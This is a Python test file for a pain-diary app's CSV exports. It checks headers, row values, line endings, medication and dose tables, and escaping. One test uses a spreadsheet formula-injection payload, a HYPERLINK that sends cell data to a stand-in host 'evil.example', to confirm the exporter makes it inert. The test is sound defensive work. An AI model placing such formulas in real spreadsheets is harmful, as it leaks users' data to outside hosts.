"""The CSV exports as a spreadsheet program and Python's csv module read them."""

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from diary import clinical
from diary.clinical import regions
from diary.exports import spreadsheet


def entry(**changes):
    row = {
        "id": "3f2b8c1e-4d5a-4b6c-9e7f-0a1b2c3d4e5f",
        "day": "2026-03-03",
        "leg_pain": 6,
        "back_pain": 3,
        "worst_leg_pain": None,
        "regions": {"l_buttock": "pain", "l_calf_back": "pain", "r_foot_top": "numb"},
        "activities": {"walking": 3, "sitting": 0},
        "sitting_tolerance_min": 20,
        "walking_tolerance_min": None,
        "red_flags": ["leg_weakness"],
        "note": "",
        "version": 1,
        "created_at": "2026-03-03T08:00:00.000Z",
        "updated_at": "2026-03-03T08:00:00.000Z",
        "deleted": False,
    }
    return {**row, **changes}


def read(text):
    """The rows as a reader of the file gets them (BOM checked and taken off first)."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_the_header_names_every_field_region_activity_and_flag():
    header = next(csv.reader(io.StringIO(spreadsheet.entries_csv([])[1:])))
    assert header[:5] == ["day", "leg_pain", "back_pain", "worst_leg_pain", "most_distal_level"]
    assert [h for h in header if h.startswith("region_")] == [
        f"region_{r.code}" for r in regions.REGIONS
    ]
    assert len([h for h in header if h.startswith("region_")]) == 25
    assert [h for h in header if h.startswith("activity_")] == [
        f"activity_{a}" for a in clinical.ACTIVITIES
    ]
    assert [h for h in header if h.startswith("red_flag_")] == [
        f"red_flag_{f}" for f in clinical.RED_FLAGS
    ]
    assert header[-4:] == ["note", "id", "created_at", "updated_at"]


def test_one_row_per_entry_with_its_values():
    rows = read(spreadsheet.entries_csv([entry(), entry(id="x", day="2026-03-04", leg_pain=2)]))
    assert len(rows) == 2
    first = rows[0]
    assert first["day"] == "2026-03-03" and first["leg_pain"] == "6" and first["back_pain"] == "3"
    assert first["worst_leg_pain"] == ""  # not answered, not zero
    assert first["most_distal_level"] == "4"  # the back of the calf; numbness never counts
    assert first["region_l_calf_back"] == "pain" and first["region_r_foot_top"] == "numb"
    assert first["region_r_calf_back"] == ""
    assert first["activity_walking"] == "3" and first["activity_sitting"] == "0"
    assert first["activity_sleeping"] == ""  # unanswered stays unknown
    assert first["sitting_tolerance_min"] == "20" and first["walking_tolerance_min"] == ""
    assert first["red_flag_leg_weakness"] == "yes" and first["red_flag_bladder_bowel"] == "no"
    assert rows[1]["day"] == "2026-03-04" and rows[1]["leg_pain"] == "2"


def test_records_end_with_crlf_as_rfc_4180_says():
    text = spreadsheet.entries_csv([entry()])
    assert text.count("\r\n") == 2 and "\n" not in text.replace("\r\n", "")


def test_a_formula_in_a_note_is_exported_inert():
    note = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    rows = read(spreadsheet.entries_csv([entry(note=note)]))
    assert rows[0]["note"] == "'" + note


def test_a_note_with_commas_quotes_and_newlines_round_trips():
    note = 'Walked 2 km, then "sharp" pain,\nslept badly;\r\nbetter by noon: ok'
    rows = read(spreadsheet.entries_csv([entry(note=note)]))
    assert rows[0]["note"] == note


# Every character but the control characters a note may not hold (made visible below).
NOTE_CONTROLS = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])).translate(
    {ord(c): None for c in "\t\n\r"}
)


@given(st.text(st.characters(exclude_characters=NOTE_CONTROLS), max_size=200))
def test_any_note_reads_back_as_written_or_made_inert(note):
    rows = read(spreadsheet.entries_csv([entry(note=note)]))
    read_back = rows[0]["note"]
    if note.startswith(spreadsheet.FORMULA_STARTS):
        assert read_back == "'" + note
    else:
        assert read_back == note
    assert not read_back.startswith(spreadsheet.FORMULA_STARTS)


def test_control_characters_saved_before_they_were_refused_do_not_reach_the_spreadsheet():
    note = "red \x1b[31malert\x07\x85 done\nnext line\twith a tab"
    rows = read(spreadsheet.entries_csv([entry(note=note)]))
    assert rows[0]["note"] == "red \ufffd[31malert\ufffd\ufffd done\nnext line\twith a tab"
    therapy = {"kind": "surgery", "label": "\x1b]0;title\x07", "start_day": "2026-03-01"}
    therapy.update(id="t", end_day=None, notes="", version=1, deleted=False)
    therapy.update(created_at="2026-03-01T08:00:00.000Z", updated_at="2026-03-01T08:00:00.000Z")
    text = spreadsheet.therapies_csv([therapy])
    assert not any(chr(c) in text for c in [*range(0x09), 0x1B, *range(0x7F, 0xA0)])


def test_without_notes_there_is_no_note_column():
    text = spreadsheet.entries_csv([entry(note="private")], include_notes=False)
    assert "note" not in read(text)[0] and "private" not in text


def test_therapies_one_row_each_with_the_kind_in_words():
    therapy = {
        "id": "5f2b8c1e-4d5a-4b6c-9e7f-0a1b2c3d4e5f",
        "kind": "physiotherapy",
        "label": "+2 sessions a week",
        "start_day": "2026-01-05",
        "end_day": None,
        "notes": "@home exercises",
        "version": 2,
        "created_at": "2026-01-05T08:00:00.000Z",
        "updated_at": "2026-01-06T08:00:00.000Z",
        "deleted": False,
    }
    rows = read(spreadsheet.therapies_csv([therapy]))
    assert list(rows[0]) == spreadsheet.therapy_columns()
    assert rows[0]["kind_name"] == "Physiotherapy" and rows[0]["end_day"] == ""
    assert rows[0]["label"] == "'+2 sessions a week" and rows[0]["notes"] == "'@home exercises"
    hidden = read(spreadsheet.therapies_csv([therapy], include_notes=False))
    assert "notes" not in hidden[0]


def test_the_responses_csv_has_a_row_per_answer_with_its_score_and_answers():
    therapy = {"id": "t-1", "kind": "nerve_block", "label": "", "start_day": "2026-01-01"}
    base = {"created_at": "2026-03-03T08:00:00.000Z", "updated_at": "2026-03-03T08:00:00.000Z"}
    responses = [
        {
            **base,
            "id": "r-1",
            "questionnaire": "rmdq",
            "day": "2026-03-03",
            "answers": {str(n): n == 5 for n in range(1, 25)},
            "therapy_id": None,
            "score": 1,
        },
        {
            **base,
            "id": "r-2",
            "questionnaire": "pgic",
            "day": "2026-03-04",
            "answers": {"1": 2},
            "therapy_id": "t-1",
            "score": 2,
        },
    ]
    rows = read(spreadsheet.responses_csv(responses, [therapy]))
    assert list(rows[0]) == spreadsheet.RESPONSE_COLUMNS
    rmdq, pgic = rows
    assert (rmdq["questionnaire"], rmdq["score"], rmdq["score_words"]) == ("rmdq", "1", "1 of 24")
    assert rmdq["questionnaire_title"] == "Roland-Morris Disability Questionnaire"
    assert json.loads(rmdq["answers"])["5"] is True and rmdq["therapy"] == ""
    assert (pgic["score_words"], pgic["therapy"], pgic["answers"]) == (
        "Much improved",
        "Nerve block",
        '{"1":2}',
    )


def _medicine(changes, **fields):
    return {
        "id": "0b1e2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
        "name": "Pregabalin",
        "strength": "75",
        "unit": "mg",
        "schedule": "regular",
        "start_day": "2026-01-05",
        "end_day": None,
        "changes": changes,
        "created_at": "2026-01-05T08:00:00.000Z",
        "updated_at": "2026-01-05T08:00:00.000Z",
        **fields,
    }


def test_medicines_and_doses_have_their_own_tables():
    from diary.exports.spreadsheet import doses_csv, medications_csv

    medicine = _medicine([{"day": "2026-02-01", "dose": "150 mg twice a day"}], name="=Pregabalin")
    rows = list(csv.DictReader(io.StringIO(medications_csv([medicine]).lstrip("\ufeff"))))
    assert rows[0]["name"] == "'=Pregabalin"  # never a formula
    assert rows[0]["schedule_words"] == "Regularly (every day, or on a schedule)"
    assert json.loads(rows[0]["dose_changes"]) == medicine["changes"]
    dose = {
        "id": "2d3e4f5a-6b7c-4d8e-9f0a-1b2c3d4e5f6a",
        "medication_id": medicine["id"],
        "taken_at": "2026-02-03T23:15:00.000Z",
        "time_zone": "Europe/Paris",
        "created_at": "2026-02-03T23:15:01.000Z",
        "updated_at": "2026-02-03T23:15:01.000Z",
    }
    orphan = {
        **dose,
        "medication_id": "4f5a6b7c-8d9e-4f0a-9b1c-2d3e4f5a6b7c",
        "time_zone": "America/New_York",
    }
    text = doses_csv([dose, orphan], [medicine])
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    # 23:15 UTC is 00:15 the next day in Paris: the day and time where it was taken.
    assert (rows[0]["day"], rows[0]["time"], rows[0]["time_zone"]) == (
        "2026-02-04",
        "00:15",
        "Europe/Paris",
    )
    # Each dose on its own zone's clock: 18:15 the day before in New York.
    assert (rows[1]["day"], rows[1]["time"]) == ("2026-02-03", "18:15")
    assert rows[0]["medication"] == "'=Pregabalin 75 mg"
    assert rows[1]["medication"] == ""


def test_dose_changes_whose_words_hold_the_old_separator_read_back_exactly():
    # "; " used to join the changes in one cell: these two could not be told from three.
    changes = [
        {"day": "2026-02-01", "dose": "150 mg; twice a day"},
        {"day": "2026-03-01", "dose": "2026-03-15: 300 mg"},
    ]
    medicine = _medicine(changes)
    (row,) = read(spreadsheet.medications_csv([medicine]))
    assert json.loads(row["dose_changes"]) == changes
    (row,) = read(spreadsheet.medications_csv([_medicine([], schedule="as_needed")]))
    assert row["dose_changes"] == "[]"  # none, not "not answered"
    later = _medicine(
        [{"day": "2026-02-10", "dose": "=1+1"}],
        id="1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f",
        name="Ibuprofen",
        strength="",
        unit="",
    )
    rows = read(spreadsheet.dose_changes_csv([medicine, later]))
    assert list(rows[0]) == spreadsheet.DOSE_CHANGE_COLUMNS
    assert [(r["day"], r["medication"], r["dose"]) for r in rows] == [
        ("2026-02-01", "Pregabalin 75 mg", "150 mg; twice a day"),
        ("2026-02-10", "Ibuprofen", "'=1+1"),  # never a formula
        ("2026-03-01", "Pregabalin 75 mg", "2026-03-15: 300 mg"),
    ]
    assert [r["medication_id"] for r in rows] == [medicine["id"], later["id"], medicine["id"]]


@given(
    st.lists(
        st.fixed_dictionaries(
            {"day": st.dates().map(str), "dose": st.text(min_size=1, max_size=100)}
        ),
        max_size=5,
    )
)
def test_the_dose_changes_cell_gives_back_any_changes(changes):
    (row,) = read(spreadsheet.medications_csv([_medicine(changes)]))
    assert json.loads(row["dose_changes"]) == changes
